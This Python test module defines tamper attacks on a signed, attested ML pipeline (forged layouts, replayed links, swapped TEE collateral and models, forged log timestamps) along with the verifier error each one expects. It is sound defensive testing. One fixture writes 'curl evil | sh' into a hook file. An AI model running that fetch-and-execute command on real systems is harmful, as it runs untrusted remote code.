"""Attacks on a fully attested pipeline (issue 6 item 7). Each yields a tampered case and the
error class and check that must catch it.

Shared by tests/verify/test_tamper.py (live, fresh keys) and tests/verify/vectors/generate.py
(fixed keys → JSON vectors).
"""

from __future__ import annotations

import base64
import contextlib
import copy
import json
import os
import shutil
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml
from bundle_builder import Pipeline, build_pipeline, record, sign_source

from atlas_intoto.bundle import Bundle, LinkEvidence, bundle_document, collect_evidence
from atlas_intoto.keys import load_signer


@dataclass
class Ctx:
    base: Pipeline
    tmp: Path
    sim_root: Path
    mrtd: str
    log_url: str
    log_key_file: Path


@dataclass
class Case:
    bundle: bytes
    layout_keys: list[bytes]
    artifacts: Path | None = None
    now: int | None = None


@dataclass(frozen=True)
class Attack:
    name: str
    description: str
    check: str
    error: str
    build: Callable[[Ctx], Case]


ATTACKS: list[Attack] = []


def attack(
    name: str, description: str, *, check: str, error: str
) -> Callable[[Callable[[Ctx], Case]], Callable[[Ctx], Case]]:
    def register(fn: Callable[[Ctx], Case]) -> Callable[[Ctx], Case]:
        ATTACKS.append(
            Attack(name=name, description=description, check=check, error=error, build=fn)
        )
        return fn

    return register


# --- helpers ---------------------------------------------------------------------------------


def _doc(ctx: Ctx) -> dict[str, Any]:
    return copy.deepcopy(ctx.base.bundle_doc())


def _case(ctx: Ctx, doc: Mapping[str, Any], **kw: Any) -> Case:
    return Case(bundle=json.dumps(doc).encode(), layout_keys=[ctx.base.owner_pem], **kw)


def _item(evidence: LinkEvidence) -> dict[str, Any]:
    doc = bundle_document(Bundle(layout={}, links=(evidence,)))
    return doc["steps"][evidence.step]["links"][0]  # type: ignore[no-any-return]


def _clone(ctx: Ctx, name: str, *, tee: bool = True) -> Pipeline:
    """A copy of the base work and evidence dirs to record a replacement step into."""
    root = ctx.tmp / name
    shutil.copytree(ctx.base.work, root / "work")
    shutil.copytree(ctx.base.evidence, root / "evidence")
    return Pipeline(
        root=root,
        keys=ctx.base.keys,
        work=root / "work",
        evidence=root / "evidence",
        layout_source=ctx.base.layout_source,
        layout_file=ctx.base.layout_file,
        bundle_file=root / "bundle.atlas.json",
        options={**ctx.base.options, "tee": tee},
    )


def _evidence_for(pipeline: Pipeline, envelope: bytes) -> LinkEvidence:
    bundle = collect_evidence(layout_envelope={}, evidence_dirs=[pipeline.evidence])
    return next(item for item in bundle.links if item.envelope == envelope)


def _rerecord(ctx: Ctx, name: str, step: str, *, tee: bool = True, **kw: Any) -> list[LinkEvidence]:
    """Re-record ``step`` in a copy of the base run, then the steps downstream of it, as an
    attacker re-running the pipeline from there would (so log times stay in order)."""
    clone = _clone(ctx, name, tee=tee)
    modify = kw.pop("modify", None)
    # (a confidential pipeline has no sidecars of private artifacts to hide)
    hidden = [clone.evidence / rel for rel in kw.pop("hide", []) if (clone.evidence / rel).exists()]
    if modify is not None:
        modify(clone.work)
    for path in hidden:
        path.rename(path.with_name(path.name + ".hidden"))
    recorded = [record(clone, step, **kw)]
    for path in hidden:
        path.with_name(path.name + ".hidden").rename(path)
    if step == "train":
        recorded.append(record(clone, "package"))
    return [_evidence_for(clone, r.envelope) for r in recorded]


def _splice(doc: dict[str, Any], evidence: list[LinkEvidence]) -> None:
    for item in evidence:
        doc["steps"].setdefault(item.step, {"links": []})["links"] = [_item(item)]


def _payload(envelope: bytes) -> dict[str, Any]:
    return json.loads(base64.b64decode(json.loads(envelope)["payload"]))  # type: ignore[no-any-return]


def _base_item(ctx: Ctx, step: str) -> dict[str, Any]:
    return ctx.base.bundle_doc()["steps"][step]["links"][0]  # type: ignore[no-any-return]


def _base_envelope(ctx: Ctx, step: str) -> bytes:
    return base64.b64decode(_base_item(ctx, step)["envelope"])


def _publish(ctx: Ctx, envelope: bytes, key: str, *, url: str | None = None) -> dict[str, Any]:
    from atlas_intoto.tlog.client import RekorClient

    with RekorClient(url or ctx.log_url) as client:
        return client.publish_dsse(envelope, (ctx.base.keys / f"{key}.pub").read_bytes())


def _forge(ctx: Ctx, step: str, key: str, payload: Mapping[str, Any], *, log: bool = True) -> bytes:
    """A link with the given fields, genuinely signed by ``key`` (an insider or a stolen key)."""
    from atlas_intoto.link import sign_link

    return sign_link(
        name=payload["name"],
        materials=payload["materials"],
        products=payload["products"],
        command=payload["command"],
        byproducts=payload.get("byproducts", {}),
        environment=payload.get("environment", {}),
        signer=load_signer(ctx.base.keys / f"{key}.key"),
    )


def _variant_layout(
    ctx: Ctx, name: str, mutate: Callable[[dict[str, Any]], None], *, owner: str = "owner"
) -> dict[str, Any]:
    source = yaml.safe_load(ctx.base.layout_source.read_text())
    mutate(source)
    signed = sign_source(ctx.base.root, source, name=f"variant-{name}", owner=owner)
    return json.loads(signed.read_bytes())  # type: ignore[no-any-return]


def _step(source: dict[str, Any], name: str) -> dict[str, Any]:
    return next(s for s in source["steps"] if s["name"] == name)


@contextlib.contextmanager
def _home(path: Path) -> Iterator[None]:
    old = os.environ.get("ATLAS_INTOTO_HOME")
    os.environ["ATLAS_INTOTO_HOME"] = str(path)
    try:
        yield
    finally:
        if old is None:
            del os.environ["ATLAS_INTOTO_HOME"]
        else:
            os.environ["ATLAS_INTOTO_HOME"] = old


# --- 1. layout -------------------------------------------------------------------------------


@attack(
    "expired-layout", "the layout's expiry has passed", check="layout", error="LayoutExpiredError"
)
def _expired(ctx: Ctx) -> Case:
    doc = _doc(ctx)
    doc["layout"] = _variant_layout(
        ctx, "expired", lambda s: s.update(expires="2020-01-01T00:00:00Z")
    )
    return _case(ctx, doc)


@attack(
    "layout-unknown-key",
    "layout signed by a key that is not the owner's",
    check="layout",
    error="LayoutSignatureError",
)
def _unknown_owner(ctx: Ctx) -> Case:
    doc = _doc(ctx)
    doc["layout"] = _variant_layout(ctx, "mallory", lambda s: None, owner="mallory")
    return _case(ctx, doc)


@attack(
    "layout-edited",
    "layout payload edited after signing (product rules relaxed)",
    check="layout",
    error="LayoutSignatureError",
)
def _edited(ctx: Ctx) -> Case:
    doc = _doc(ctx)
    payload = json.loads(base64.b64decode(doc["layout"]["payload"]))
    _step(payload, "train")["products"] = ["ALLOW *"]
    doc["layout"]["payload"] = base64.b64encode(json.dumps(payload).encode()).decode()
    return _case(ctx, doc)


# --- 2. links --------------------------------------------------------------------------------


@attack(
    "step-skipped", "the train step's evidence removed", check="links", error="MissingStepError"
)
def _skipped(ctx: Ctx) -> Case:
    doc = _doc(ctx)
    del doc["steps"]["train"]
    return _case(ctx, doc)


@attack(
    "unauthorised-key",
    "train link re-recorded and signed by a key not authorised for it",
    check="links",
    error="LinkSignatureError",
)
def _unauthorised(ctx: Ctx) -> Case:
    evidence = _rerecord(ctx, "unauthorised", "train", key="mallory")
    doc = _doc(ctx)
    _splice(doc, evidence)
    return _case(ctx, doc)


@attack(
    "link-tampered",
    "train link's products edited inside the signed envelope",
    check="links",
    error="LinkSignatureError",
)
def _link_tampered(ctx: Ctx) -> Case:
    doc = _doc(ctx)
    envelope = json.loads(_base_envelope(ctx, "train"))
    payload = json.loads(base64.b64decode(envelope["payload"]))
    payload["products"]["model/model.npz"]["sha256"] = "0" * 64
    envelope["payload"] = base64.b64encode(json.dumps(payload, sort_keys=True).encode()).decode()
    doc["steps"]["train"]["links"][0]["envelope"] = base64.b64encode(
        json.dumps(envelope).encode()
    ).decode()
    return _case(ctx, doc)


@attack(
    "threshold-not-met",
    "layout requires two trainers; one link",
    check="links",
    error="ThresholdError",
)
def _threshold(ctx: Ctx) -> Case:
    def mutate(source: dict[str, Any]) -> None:
        source["functionaries"]["trainer-2"] = "keys/mallory.pub"
        _step(source, "train").update(functionaries=["trainer", "trainer-2"], threshold=2)

    doc = _doc(ctx)
    doc["layout"] = _variant_layout(ctx, "threshold", mutate)
    return _case(ctx, doc)


@attack(
    "threshold-one-key-two-names",
    "layout lists the trainer key under two names (threshold 2); train link filed twice",
    check="links",
    error="ThresholdError",
)
def _one_key_two_names(ctx: Ctx) -> Case:
    def mutate(source: dict[str, Any]) -> None:
        source["functionaries"]["trainer-alias"] = source["functionaries"]["trainer"]
        _step(source, "train").update(functionaries=["trainer", "trainer-alias"], threshold=2)

    doc = _doc(ctx)
    doc["layout"] = _variant_layout(ctx, "one-key-two-names", mutate)
    links = doc["steps"]["train"]["links"]
    links.append(copy.deepcopy(links[0]))
    return _case(ctx, doc)


@attack(
    "command-mismatch",
    "train ran another command than the layout expects",
    check="links",
    error="CommandMismatchError",
)
def _command(ctx: Ctx) -> Case:
    doc = _doc(ctx)
    doc["layout"] = _variant_layout(
        ctx,
        "command",
        lambda s: _step(s, "train").update(
            expected_command=["python", "train.py", "--epochs", "3"]
        ),
    )
    return _case(ctx, doc)


@attack(
    "undeclared-step",
    "evidence for a step the layout does not declare",
    check="links",
    error="UnexpectedStepError",
)
def _undeclared(ctx: Ctx) -> Case:
    def modify(work: Path) -> None:
        (work / "leak.txt").write_text("exfiltrated\n")

    evidence = _rerecord(
        ctx,
        "undeclared",
        "exfiltrate",
        key="data-eng",
        modify=modify,
        materials=["data/train.csv"],
        products=["leak.txt"],
    )
    doc = _doc(ctx)
    _splice(doc, evidence)
    return _case(ctx, doc)


@attack(
    "replayed-link",
    "train link (and its log entry) replayed from an older run",
    check="links",
    error="ReplayError",
)
def _replay(ctx: Ctx) -> Case:
    run_b = build_pipeline(
        ctx.tmp / "run-b",
        tee=True,
        c2pa=True,
        log_url=ctx.log_url,
        log_key=ctx.log_key_file,
        tee_root_pem=ctx.sim_root,
        mrtd=ctx.mrtd,
        keys=ctx.base.keys,
    )
    doc = run_b.bundle_doc()
    doc["steps"]["train"] = copy.deepcopy(ctx.base.bundle_doc()["steps"]["train"])
    return Case(bundle=json.dumps(doc).encode(), layout_keys=[run_b.owner_pem])


# --- 3. rules --------------------------------------------------------------------------------


@attack(
    "digest-downgrade",
    "the layout requires BLAKE3 beside SHA-256; the links record SHA-256 only",
    check="rules",
    error="ArtifactDigestError",
)
def _digests(ctx: Ctx) -> Case:
    doc = _doc(ctx)
    doc["layout"] = _variant_layout(
        ctx, "digests", lambda s: s.update(digests=["sha256", "blake3"])
    )
    return _case(ctx, doc)


@attack(
    "dataset-modified",
    "training data changed after preparation, train re-recorded on it",
    check="rules",
    error="ArtifactRuleError",
)
def _dataset(ctx: Ctx) -> Case:
    def modify(work: Path) -> None:
        path = work / "data" / "train.csv"
        path.write_text(path.read_text() + "9,999\n")

    # The recorder refuses a material sidecar that no longer matches the file: hide it.
    evidence = _rerecord(ctx, "dataset", "train", modify=modify, hide=["c2pa/data/train.csv.c2pa"])
    doc = _doc(ctx)
    _splice(doc, evidence)
    return _case(ctx, doc)


@attack(
    "artifact-rule-violation",
    "train also produced a file outside model/",
    check="rules",
    error="ArtifactRuleError",
)
def _rule(ctx: Ctx) -> Case:
    def modify(work: Path) -> None:
        (work / "hooks").mkdir()
        (work / "hooks" / "evil.sh").write_text("curl evil | sh\n")

    evidence = _rerecord(
        ctx, "rule", "train", modify=modify, products=["model/model.npz", "hooks/evil.sh"]
    )
    doc = _doc(ctx)
    _splice(doc, evidence)
    return _case(ctx, doc)


# --- 4. TEE ----------------------------------------------------------------------------------


@attack(
    "tee-stripped",
    "train re-recorded without a TEE quote",
    check="tee",
    error="MissingTeeEvidenceError",
)
def _stripped(ctx: Ctx) -> Case:
    evidence = _rerecord(ctx, "stripped", "train", tee=False)
    doc = _doc(ctx)
    _splice(doc, evidence)
    return _case(ctx, doc)


@attack(
    "quote-other-platform",
    "train quoted by another (simulated) platform",
    check="tee",
    error="TeeRootError",
)
def _other_platform(ctx: Ctx) -> Case:
    with _home(ctx.tmp / "other-home"):
        evidence = _rerecord(ctx, "other-platform", "train")
    doc = _doc(ctx)
    _splice(doc, evidence)
    return _case(ctx, doc)


def _tdx_entry(payload: dict[str, Any]) -> dict[str, Any]:
    """The link payload's TDX evidence entry (evidence version 2), for editing in place."""
    entries = payload["environment"]["atlas-intoto"]["evidence"]
    entry: dict[str, Any] = next(e for e in entries if e["kind"] == "tdx")
    return entry


@attack(
    "quote-other-link",
    "train link carries the quote made for the prepare link",
    check="tee",
    error="ReportDataMismatchError",
)
def _other_link(ctx: Ctx) -> Case:
    train = _payload(_base_envelope(ctx, "train"))
    prepare = _payload(_base_envelope(ctx, "prepare"))
    train["environment"]["atlas-intoto"]["evidence"] = prepare["environment"]["atlas-intoto"][
        "evidence"
    ]
    envelope = _forge(ctx, "train", "trainer", train)
    doc = _doc(ctx)
    item = doc["steps"]["train"]["links"][0]
    item["envelope"] = base64.b64encode(envelope).decode()
    item["blobs"] = _base_item(ctx, "prepare")["blobs"]
    # not logged: a later log time would also make package look replayed (check 2)
    return _case(ctx, doc)


@attack("debug-td", "train quoted inside a debug TD", check="tee", error="DebugTdError")
def _debug(ctx: Ctx) -> Case:
    import hashlib

    from atlas_intoto.binding import step_binding_digest, tee_report_data
    from atlas_intoto.home import atlas_home
    from atlas_intoto.tee.simulated import default_directory, ensure_platform

    platform = ensure_platform(default_directory(atlas_home()), now=0)
    train = _payload(_base_envelope(ctx, "train"))
    keyid = load_signer(ctx.base.keys / "trainer.key").public_key.keyid
    binding = step_binding_digest(
        step="train",
        materials=train["materials"],
        products=train["products"],
        command=train["command"],
        keyid=keyid,
    )
    nonce = bytes(range(32))
    quote = platform.make_quote(
        tee_report_data(binding, nonce), td_attributes=bytes.fromhex("0100001000000000")
    )
    tee = _tdx_entry(train)
    tee.update(quote=base64.b64encode(quote).decode(), nonce=nonce.hex())
    envelope = _forge(ctx, "train", "trainer", train)
    doc = _doc(ctx)
    item = doc["steps"]["train"]["links"][0]
    item["envelope"] = base64.b64encode(envelope).decode()
    # not logged: a later log time would also make package look replayed (check 2)
    assert (
        hashlib.sha256(base64.b64decode(item["blobs"]["tdx"]["collateral"])).hexdigest()
        == tee["blobs"]["collateral"]["sha256"]
    )
    return _case(ctx, doc)


@attack(
    "mrtd-outside-policy",
    "the layout pins another MRTD for train",
    check="tee",
    error="MeasurementPolicyError",
)
def _mrtd(ctx: Ctx) -> Case:
    doc = _doc(ctx)
    doc["layout"] = _variant_layout(
        ctx, "mrtd", lambda s: _step(s, "train")["tee"].update(mrtd=["ab" * 48])
    )
    return _case(ctx, doc)


@attack(
    "collateral-swapped",
    "train's quote collateral replaced in the bundle",
    check="tee",
    error="CollateralMismatchError",
)
def _collateral(ctx: Ctx) -> Case:
    doc = _doc(ctx)
    other = json.dumps({"note": "collateral of another platform"}).encode()
    doc["steps"]["train"]["links"][0]["blobs"]["tdx"]["collateral"] = base64.b64encode(
        other
    ).decode()
    return _case(ctx, doc)


@attack(
    "collateral-uncommitted",
    "package link (re-signed by its functionary) drops the collateral digest, so any "
    "collateral could be bundled with its quote",
    check="tee",
    error="TeeEvidenceFormatError",
)
def _collateral_uncommitted(ctx: Ctx) -> Case:
    package = _payload(_base_envelope(ctx, "package"))
    del _tdx_entry(package)["blobs"]["collateral"]["sha256"]
    envelope = _forge(ctx, "package", "release", package)
    doc = _doc(ctx)
    item = doc["steps"]["package"]["links"][0]
    item["envelope"] = base64.b64encode(envelope).decode()
    item["log_entry"] = _publish(ctx, envelope, "release")
    return _case(ctx, doc)


# --- 5. C2PA ---------------------------------------------------------------------------------


@attack(
    "c2pa-manifest-other-file",
    "train link commits to the manifest of data/train.csv for the model",
    check="c2pa",
    error="C2paBindingError",
)
def _manifest_other_file(ctx: Ctx) -> Case:
    train = _payload(_base_envelope(ctx, "train"))
    prepare_item = _base_item(ctx, "prepare")
    sidecar = base64.b64decode(prepare_item["c2pa"]["data/train.csv"])
    import hashlib

    train["environment"]["atlas-intoto"]["c2pa"]["model/model.npz"]["sha256"] = hashlib.sha256(
        sidecar
    ).hexdigest()
    envelope = _forge(ctx, "train", "trainer", train)
    doc = _doc(ctx)
    item = doc["steps"]["train"]["links"][0]
    item["envelope"] = base64.b64encode(envelope).decode()
    item["c2pa"]["model/model.npz"] = prepare_item["c2pa"]["data/train.csv"]
    # not logged: a later log time would also make package look replayed (check 2)
    return _case(ctx, doc)


@attack(
    "sidecar-swapped",
    "prepare's two sidecars swapped inside the bundle",
    check="c2pa",
    error="C2paManifestError",
)
def _sidecar_swapped(ctx: Ctx) -> Case:
    doc = _doc(ctx)
    c2pa = doc["steps"]["prepare"]["links"][0]["c2pa"]
    c2pa["data/train.csv"], c2pa["data/test.csv"] = c2pa["data/test.csv"], c2pa["data/train.csv"]
    return _case(ctx, doc)


@attack(
    "missing-sidecar",
    "the model's C2PA sidecar removed from the bundle",
    check="c2pa",
    error="MissingSidecarError",
)
def _missing_sidecar(ctx: Ctx) -> Case:
    doc = _doc(ctx)
    del doc["steps"]["train"]["links"][0]["c2pa"]["model/model.npz"]
    return _case(ctx, doc)


# --- 6. transparency log ---------------------------------------------------------------------


@attack(
    "log-entry-removed", "train's log entry removed", check="tlog", error="MissingLogEntryError"
)
def _entry_removed(ctx: Ctx) -> Case:
    doc = _doc(ctx)
    del doc["steps"]["train"]["links"][0]["log_entry"]
    return _case(ctx, doc)


@attack(
    "inclusion-proof-other-entry",
    "train's inclusion proof replaced by prepare's",
    check="tlog",
    error="InclusionProofError",
)
def _other_proof(ctx: Ctx) -> Case:
    doc = _doc(ctx)
    train = doc["steps"]["train"]["links"][0]["log_entry"]
    prepare = doc["steps"]["prepare"]["links"][0]["log_entry"]
    t_entry, p_entry = next(iter(train.values())), next(iter(prepare.values()))
    t_entry["verification"]["inclusionProof"] = copy.deepcopy(
        p_entry["verification"]["inclusionProof"]
    )
    return _case(ctx, doc)


@attack(
    "checkpoint-other-log",
    "train's entry comes from a log whose key is not pinned",
    check="tlog",
    error="CheckpointError",
)
def _other_log(ctx: Ctx) -> Case:
    from atlas_intoto.demo import embedded_log

    envelope = _base_envelope(ctx, "train")
    with embedded_log(ctx.tmp / "other-log") as other:
        entry = _publish(ctx, envelope, "trainer", url=other.url)
    doc = _doc(ctx)
    doc["steps"]["train"]["links"][0]["log_entry"] = entry
    return _case(ctx, doc)


@attack(
    "forged-set",
    "train's signed entry timestamp forged with another key",
    check="tlog",
    error="SetError",
)
def _forged_set(ctx: Ctx) -> Case:
    import rfc8785
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import ec

    from atlas_intoto.keys import load_private_key

    doc = _doc(ctx)
    entry = next(iter(doc["steps"]["train"]["links"][0]["log_entry"].values()))
    payload = rfc8785.dumps({k: entry[k] for k in ("body", "integratedTime", "logID", "logIndex")})
    key = load_private_key(ctx.base.keys / "mallory.key")
    assert isinstance(key, ec.EllipticCurvePrivateKey)
    entry["verification"]["signedEntryTimestamp"] = base64.b64encode(
        key.sign(payload, ec.ECDSA(hashes.SHA256()))
    ).decode()
    return _case(ctx, doc)


# --- 7. final artifacts ----------------------------------------------------------------------


@attack(
    "model-swapped",
    "the consumer's model file is not the packaged one",
    check="artifacts",
    error="FinalArtifactError",
)
def _model_swapped(ctx: Ctx) -> Case:
    held = ctx.tmp / "held"
    shutil.copytree(ctx.base.work, held)
    (held / "dist" / "model.npz").write_bytes(b"MODEL-with-a-backdoor")
    return _case(ctx, _doc(ctx), artifacts=held)


@attack(
    "artifacts-nothing-compared",
    "package re-recorded with no products: the consumer's (swapped) model is compared with nothing",
    check="artifacts",
    error="FinalArtifactError",
)
def _nothing_compared(ctx: Ctx) -> Case:
    evidence = _rerecord(ctx, "nothing-compared", "package", products=[])
    doc = _doc(ctx)
    _splice(doc, evidence)
    held = ctx.tmp / "held-nothing"
    shutil.copytree(ctx.base.work, held)
    (held / "dist" / "model.npz").write_bytes(b"MODEL-with-a-backdoor")
    return _case(ctx, doc, artifacts=held)


# --- issue 11: verdicts that cannot mislead ---------------------------------------------------


def _run_b(ctx: Ctx) -> Pipeline:
    return build_pipeline(
        ctx.tmp / "run-b",
        tee=True,
        c2pa=True,
        log_url=ctx.log_url,
        log_key=ctx.log_key_file,
        tee_root_pem=ctx.sim_root,
        mrtd=ctx.mrtd,
        keys=ctx.base.keys,
    )


@attack(
    "replay-relogged-reserialised",
    "train link of an older run re-serialised and logged again now (its log time is after the "
    "steps it consumes): not the link the run's steps recorded",
    check="links",
    error="ReplayError",
)
def _replay_relogged(ctx: Ctx) -> Case:
    run_b = _run_b(ctx)
    doc = run_b.bundle_doc()
    item = copy.deepcopy(_base_item(ctx, "train"))
    envelope = json.dumps(json.loads(_base_envelope(ctx, "train")), indent=1).encode()
    item["envelope"] = base64.b64encode(envelope).decode()
    item["log_entry"] = _publish(ctx, envelope, "trainer")
    doc["steps"]["train"]["links"] = [item]
    return Case(bundle=json.dumps(doc).encode(), layout_keys=[run_b.owner_pem])


@attack(
    "relogged-as-hashedrekord",
    "train's log entry replaced by a hashedrekord entry over the same envelope, logged later",
    check="tlog",
    error="LogEntryMismatchError",
)
def _relogged_hashedrekord(ctx: Ctx) -> Case:
    import hashlib

    from atlas_intoto import dsse
    from atlas_intoto.tlog.client import RekorClient

    envelope = dsse.parse(_base_envelope(ctx, "train"))
    message = dsse.pae(envelope.payload_type, envelope.payload)
    with RekorClient(ctx.log_url) as client:
        entry = client.publish_hashedrekord(
            signature=envelope.signatures[0].sig,
            public_key_pem=(ctx.base.keys / "trainer.pub").read_bytes(),
            digest=hashlib.sha256(message).digest(),
        )
    doc = _doc(ctx)
    doc["steps"]["train"]["links"][0]["log_entry"] = entry
    return _case(ctx, doc)


@attack(
    "tee-simulated-relabelled",
    "train's simulated quote relabelled as a real tdx quote by its functionary",
    check="tee",
    error="NotTdxQuoteError",
)
def _relabelled(ctx: Ctx) -> Case:
    train = _payload(_base_envelope(ctx, "train"))
    _tdx_entry(train)["type"] = "tdx"
    envelope = _forge(ctx, "train", "trainer", train)
    doc = _doc(ctx)
    doc["steps"]["train"]["links"][0]["envelope"] = base64.b64encode(envelope).decode()
    return _case(ctx, doc)


@attack(
    "tee-simulated-refused",
    "the layout refuses simulated TDX evidence; the quotes are simulated",
    check="tee",
    error="TeeRootError",
)
def _simulated_refused(ctx: Ctx) -> Case:
    doc = _doc(ctx)
    doc["layout"] = _variant_layout(
        ctx, "no-simulated", lambda s: s["trust"]["tee"].update(allow_simulated=False)
    )
    return _case(ctx, doc)


@attack(
    "log-origin-not-pinned",
    "the layout pins another log instance (origin) under the same key",
    check="tlog",
    error="CheckpointError",
)
def _origin(ctx: Ctx) -> Case:
    def mutate(source: dict[str, Any]) -> None:
        source["trust"]["logs"][0]["origin"] = "another-instance - 12345"

    doc = _doc(ctx)
    doc["layout"] = _variant_layout(ctx, "origin", mutate)
    return _case(ctx, doc)


@attack(
    "artifacts-earlier-product-swapped",
    "the consumer's model/ copy (a product of train, not of the last step) is swapped",
    check="artifacts",
    error="FinalArtifactError",
)
def _earlier_swapped(ctx: Ctx) -> Case:
    held = ctx.tmp / "held-earlier"
    shutil.copytree(ctx.base.work, held)
    (held / "model" / "model.npz").write_bytes(b"MODEL-with-a-backdoor")
    return _case(ctx, _doc(ctx), artifacts=held)


@attack(
    "artifacts-unattested-file",
    "a file no step produced (backdoor.py) added to the consumer's artifacts",
    check="artifacts",
    error="FinalArtifactError",
)
def _unattested(ctx: Ctx) -> Case:
    held = ctx.tmp / "held-unattested"
    shutil.copytree(ctx.base.work, held)
    (held / "dist" / "backdoor.py").write_text("import os\n")
    return _case(ctx, _doc(ctx), artifacts=held)
